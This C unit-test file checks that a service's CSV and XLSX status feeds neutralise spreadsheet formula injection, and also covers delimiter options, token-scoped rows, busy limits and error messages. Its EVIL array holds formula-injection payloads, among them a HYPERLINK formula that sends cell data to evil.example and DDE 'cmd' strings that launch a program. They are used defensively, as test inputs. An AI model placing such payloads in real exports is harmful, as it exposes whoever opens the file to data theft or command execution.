/* feed.xlsx — the feed for spreadsheets: CSV injection neutralised (a
 * project named with each formula character comes out with a ' in front,
 * in both CSV forms; a negative number stays a number), the Danish Excel
 * CSV (?delimiter=semicolon&decimal=comma, with a UTF-8 BOM) read back by
 * python3's csv module, bad CSV options refused with words, and
 * /api/v1/status.xlsx read back with zipfile + xml (openpyxl too when
 * installed): typed cells, frozen header row, autofilter; an
 * organisation's token gets only its rows there too, and no token no file;
 * a third workbook asked for while two are being built gets 503; no
 * temporary directory answers 500 saying so. */
#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

#include "agg_store.h"
#include "test_aggregator_util.h"
#include "trin_store.h"
#include "trin_token.h"

static tu_svc_t *svc;
static char store_path[64];
static char org_token[TRIN_TOKEN_TEXT_BUF]; /* BO's feed:read token */

/* Names a spreadsheet would run as formulas, one per dangerous first
 * character (OWASP: = + - @ tab CR). */
static const char *const EVIL[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
};
#define NEVIL (sizeof EVIL / sizeof *EVIL)

static void evil_projects(agg_service_t *a, void *arg) {
  uint64_t *seq = arg;
  for (size_t i = 0; i < NEVIL; i++) {
    char id[16];
    snprintf(id, sizeof id, "E-%zu", i);
    Trin__Lifecycle__Project p;
    tu_project(&p, id, "", "BO");
    p.name = (char *)EVIL[i];
    p.municipality = "+cmd|'/C calc'!A0";
    /* handed over 12 days early: schedule_variance_days = -12 */
    p.baseline_handover = "2027-06-01";
    p.forecast_handover = "2027-05-20";
    p.schedule_variance_days = -12;
    p.paused = i % 2 == 1;
    Trin__Lifecycle__ProjectEvent pe = TRIN__LIFECYCLE__PROJECT_EVENT__INIT;
    pe.project = &p;
    Trin__Event *ev = tu_event("lifecycle", ++*seq, "lifecycle.project_created", &pe.base);
    agg_service_consume(a, 0, ev);
    tu_event_free(ev);
  }
  /* amounts and a negative drift on the first two */
  for (int i = 0; i < 2; i++) {
    char id[16];
    snprintf(id, sizeof id, "E-%d", i);
    Trin__Budget__ProjectFigures f = TRIN__BUDGET__PROJECT_FIGURES__INIT;
    f.project_id = id;
    f.budget_a_ore = 123456789 + i;
    f.drift_known = true;
    f.drift_bp = -125;
    Trin__Budget__BudgetEvent be = TRIN__BUDGET__BUDGET_EVENT__INIT;
    be.figures = &f;
    Trin__Event *ev = tu_event("budget", (uint64_t)i + 1, "budget.budget_approved", &be.base);
    agg_service_consume(a, 1, ev);
    tu_event_free(ev);
  }
  trin_err_t err = {0};
  agg_service_flush(a, &err);
}

static int setup(void **state) {
  /* A store file holding BO's token before the service opens it. */
  snprintf(store_path, sizeof store_path, "/tmp/trin-feed-xlsx-XXXXXX");
  int fd = mkstemp(store_path);
  assert_true(fd >= 0);
  close(fd);
  unlink(store_path);
  char loc[96];
  snprintf(loc, sizeof loc, "sqlite:%s", store_path);
  trin_store_options_t o = {.location = loc, .sync = TRIN_STORE_SYNC_NORMAL};
  trin_store_t *s = NULL;
  trin_err_t err = {0};
  assert_int_equal(trin_store_open(&o, &s, &err), TRIN_OK);
  assert_int_equal(agg_store_migrate(s, &err), TRIN_OK);
  assert_int_equal(trin_token_migrate(s, &err), TRIN_OK);
  assert_int_equal(
      trin_token_create(s, "BO", TRIN_TOKEN_FEED_READ, "Excel", NULL, org_token, &err), TRIN_OK);
  trin_store_destroy(&s);

  tu_svc_options_t so = {.store = loc};
  svc = tu_svc_start_with(&so);
  uint64_t seq = 0;
  tu_svc_projects(svc, 20, &seq); /* KAB's */
  tu_svc_run(svc, evil_projects, &seq);
  return 0;
}

static int teardown(void **state) {
  tu_svc_stop(svc);
  char p[96];
  unlink(store_path);
  snprintf(p, sizeof p, "%s-wal", store_path);
  unlink(p);
  snprintf(p, sizeof p, "%s-shm", store_path);
  unlink(p);
  return 0;
}

static void get_ok(const char *path, tu_http_t *r) {
  assert_true(tu_get_auth(tu_svc_port(svc), path, r));
  assert_int_equal(r->status, 200);
}

/* The CSV line of project id (from its id to the line's end; ids come
 * first, names second). */
static const char *line_of(const char *body, const char *id, char delim) {
  char key[32];
  snprintf(key, sizeof key, "\n%s%c", id, delim);
  const char *p = strstr(body, key);
  assert_non_null(p);
  return p + 1;
}

static void csv_neutralises_formulas(void **state) {
  const char *forms[] = {"/api/v1/status.csv", "/api/v1/status.csv?delimiter=semicolon"};
  for (int k = 0; k < 2; k++) {
    char d = k ? ';' : ',';
    tu_http_t r;
    get_ok(forms[k], &r);
    for (size_t i = 0; i < NEVIL; i++) {
      char id[16], want[160];
      snprintf(id, sizeof id, "E-%zu", i);
      const char *line = line_of(r.body, id, d);
      /* the name: quoted when it holds the delimiter, a quote or CR */
      const char *name = line + strlen(id) + 1;
      if (name[0] == '"') name++;
      snprintf(want, sizeof want, "'%c", EVIL[i][0]);
      assert_memory_equal(name, want, 2);
      /* the municipality too */
      char muni[40];
      snprintf(muni, sizeof muni, "%c'+cmd|'/C calc'!A0%c", d, d);
      assert_non_null(strstr(line, muni));
      /* a number column: -12 is the number -12, never '-12 */
      char var[16];
      snprintf(var, sizeof var, "%c-12%c", d, d);
      assert_non_null(strstr(line, var));
    }
    /* nothing anywhere starts a cell with a bare formula character */
    for (const char *p = r.body; *p; p++) {
      if (*p != d && *p != '\n') continue;
      const char *cell = p + 1;
      if (*cell == '"') cell++;
      if (*cell == '=' || *cell == '+' || *cell == '@') fail_msg("a formula cell: %.40s", cell);
    }
    tu_http_free(&r);
  }
  /* and the decimal: a negative drift stays a number */
  tu_http_t r;
  get_ok("/api/v1/status.csv?delimiter=semicolon&decimal=comma", &r);
  assert_non_null(strstr(line_of(r.body, "E-0", ';'), ";1234567,89;"));
  assert_non_null(strstr(line_of(r.body, "E-0", ';'), ";-1,25;"));
  tu_http_free(&r);
  get_ok("/api/v1/status.csv", &r);
  assert_non_null(strstr(line_of(r.body, "E-0", ','), ",1234567.89,"));
  assert_non_null(strstr(line_of(r.body, "E-0", ','), ",-1.25,"));
  tu_http_free(&r);
}

static void csv_read_by_python(void **state) {
  char cmd[1024];
  snprintf(cmd, sizeof cmd, "python3 %s csv %d %s", AGG_FEED_CHECK, tu_svc_port(svc), TU_TOKEN);
  assert_int_equal(system(cmd), 0);
  snprintf(cmd, sizeof cmd, "python3 %s csv_excel %d %s", AGG_FEED_CHECK, tu_svc_port(svc),
           TU_TOKEN);
  assert_int_equal(system(cmd), 0);
  snprintf(cmd, sizeof cmd, "python3 %s csv_excel %d %s", AGG_FEED_CHECK, tu_svc_port(svc),
           org_token);
  assert_int_equal(system(cmd), 0);
}

static void csv_bad_options(void **state) {
  struct {
    const char *query, *says;
  } bad[] = {
      {"delimiter=tab", "delimiter must be comma or semicolon"},
      {"decimal=komma", "decimal must be point or comma"},
      {"decimal=comma", "decimal=comma needs delimiter=semicolon"},
      {"delimiter=comma&decimal=comma", "decimal=comma needs delimiter=semicolon"},
  };
  for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
    char path[128];
    snprintf(path, sizeof path, "/api/v1/status.csv?%s", bad[i].query);
    tu_http_t r;
    assert_true(tu_get_auth(tu_svc_port(svc), path, &r));
    assert_int_equal(r.status, 400);
    assert_non_null(strstr(r.body, bad[i].says));
    tu_http_free(&r);
  }
  /* the plain CSV has no BOM, the Excel form has */
  tu_http_t r;
  get_ok("/api/v1/status.csv?delimiter=comma&decimal=point", &r);
  assert_true(strncmp(r.body, "project_id,", 11) == 0);
  tu_http_free(&r);
  get_ok("/api/v1/status.csv?delimiter=semicolon", &r);
  assert_true(strncmp(r.body, "\xEF\xBB\xBFproject_id;", 14) == 0);
  tu_http_free(&r);
}

static void xlsx_typed_and_scoped(void **state) {
  tu_http_t r;
  get_ok("/api/v1/status.xlsx", &r);
  char v[128];
  assert_int_equal(tu_header(&r, "Content-Disposition", v, sizeof v), 1);
  assert_non_null(strstr(v, "status.xlsx"));
  assert_memory_equal(r.body, "PK\x03\x04", 4); /* a zip file */
  tu_http_free(&r);
  char cmd[1024];
  /* the operator: every row (20 of KAB, 6 of BO) */
  snprintf(cmd, sizeof cmd, "python3 %s xlsx %d %s %d", AGG_FEED_CHECK, tu_svc_port(svc),
           TU_TOKEN, 20 + (int)NEVIL);
  assert_int_equal(system(cmd), 0);
  /* BO's token: BO's rows only */
  snprintf(cmd, sizeof cmd, "python3 %s xlsx %d %s %d", AGG_FEED_CHECK, tu_svc_port(svc),
           org_token, (int)NEVIL);
  assert_int_equal(system(cmd), 0);
  char path[200];
  snprintf(path, sizeof path, "/api/v1/status.xlsx?api_key=%s", org_token);
  assert_true(tu_get(tu_svc_port(svc), path, NULL, &r));
  assert_int_equal(r.status, 200);
  /* KAB's project ids are not in BO's workbook (compressed: look in the
   * python check above; here only that the file is smaller) */
  size_t bo_len = r.body_len;
  tu_http_free(&r);
  get_ok("/api/v1/status.xlsx", &r);
  assert_true(bo_len < r.body_len);
  tu_http_free(&r);
  /* no token, a wrong one: no file */
  assert_true(tu_get(tu_svc_port(svc), "/api/v1/status.xlsx", NULL, &r));
  assert_int_equal(r.status, 401);
  tu_http_free(&r);
  assert_true(
      tu_get(tu_svc_port(svc), "/api/v1/status.xlsx", "Authorization: Bearer wrong\r\n", &r));
  assert_int_equal(r.status, 401);
  tu_http_free(&r);
}

/* ---- more workbooks at once than are built at once ---- */

static atomic_int loop_held, loop_release;

/* Holds the service's loop until released: requests sent meanwhile all
 * wait in their sockets and are read in one turn of the loop, before any
 * workbook can be done. */
static void hold_loop(agg_service_t *a, void *arg) {
  atomic_store(&loop_held, 1);
  while (!atomic_load(&loop_release)) {
    struct timespec ts = {0, 1000000};
    nanosleep(&ts, NULL);
  }
}

static void *holder(void *arg) {
  tu_svc_run(svc, hold_loop, NULL);
  return NULL;
}

static int send_get(int port, const char *path) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
  assert_int_equal(connect(fd, (struct sockaddr *)&a, sizeof a), 0);
  char req[256];
  int n = snprintf(req, sizeof req,
                   "GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " TU_TOKEN
                   "\r\nConnection: close\r\n\r\n",
                   path);
  assert_int_equal(send(fd, req, (size_t)n, 0), n);
  return fd;
}

/* The status code and, in body, the start of the body. */
static int read_status(int fd, char *body, size_t n) {
  static char buf[1 << 20];
  size_t len = 0;
  for (;;) {
    struct pollfd p = {.fd = fd, .events = POLLIN};
    if (poll(&p, 1, 60000) <= 0) break;
    ssize_t got = recv(fd, buf + len, sizeof buf - 1 - len, 0);
    if (got <= 0) break;
    len += (size_t)got;
  }
  close(fd);
  buf[len] = '\0';
  int status = 0;
  sscanf(buf, "HTTP/1.1 %d", &status);
  const char *sep = strstr(buf, "\r\n\r\n");
  snprintf(body, n, "%s", sep ? sep + 4 : "");
  return status;
}

static void xlsx_busy(void **state) {
  pthread_t t;
  atomic_store(&loop_held, 0);
  atomic_store(&loop_release, 0);
  assert_int_equal(pthread_create(&t, NULL, holder, NULL), 0);
  while (!atomic_load(&loop_held)) {
    struct timespec ts = {0, 1000000};
    nanosleep(&ts, NULL);
  }
  int fds[3];
  for (int i = 0; i < 3; i++) fds[i] = send_get(tu_svc_port(svc), "/api/v1/status.xlsx");
  atomic_store(&loop_release, 1);
  pthread_join(t, NULL);
  int ok = 0, busy = 0;
  for (int i = 0; i < 3; i++) {
    char body[200];
    int status = read_status(fds[i], body, sizeof body);
    if (status == 200) ok++;
    if (status == 503) {
      busy++;
      assert_non_null(strstr(body, "other spreadsheets are being made: try again"));
    }
  }
  assert_int_equal(ok, 2);
  assert_int_equal(busy, 1);
  /* and once they are done, the next one is made */
  tu_http_t r;
  get_ok("/api/v1/status.xlsx", &r);
  tu_http_free(&r);
}

static void xlsx_without_tmpdir(void **state) {
  /* No workbook is being built now: the worker reads TMPDIR only later. */
  assert_int_equal(setenv("TMPDIR", "/nonexistent/trin-xlsx-test", 1), 0);
  tu_http_t r;
  assert_true(tu_get_auth(tu_svc_port(svc), "/api/v1/status.xlsx", &r));
  unsetenv("TMPDIR");
  assert_int_equal(r.status, 500);
  assert_non_null(strstr(r.body, "no temporary directory for the spreadsheet in "
                                 "/nonexistent/trin-xlsx-test"));
  tu_http_free(&r);
  get_ok("/api/v1/status.xlsx", &r);
  tu_http_free(&r);
}

static void xlsx_counted_in_metrics(void **state) {
  tu_http_t r;
  get_ok("/metrics", &r);
  assert_non_null(strstr(r.body, "endpoint=\"xlsx\",code=\"200\""));
  assert_non_null(strstr(r.body, "endpoint=\"xlsx\",code=\"503\""));
  tu_http_free(&r);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(csv_neutralises_formulas),
      cmocka_unit_test(csv_read_by_python),
      cmocka_unit_test(csv_bad_options),
      cmocka_unit_test(xlsx_typed_and_scoped),
      cmocka_unit_test(xlsx_busy),
      cmocka_unit_test(xlsx_without_tmpdir),
      cmocka_unit_test(xlsx_counted_in_metrics),
  };
  return cmocka_run_group_tests(tests, setup, teardown);
}
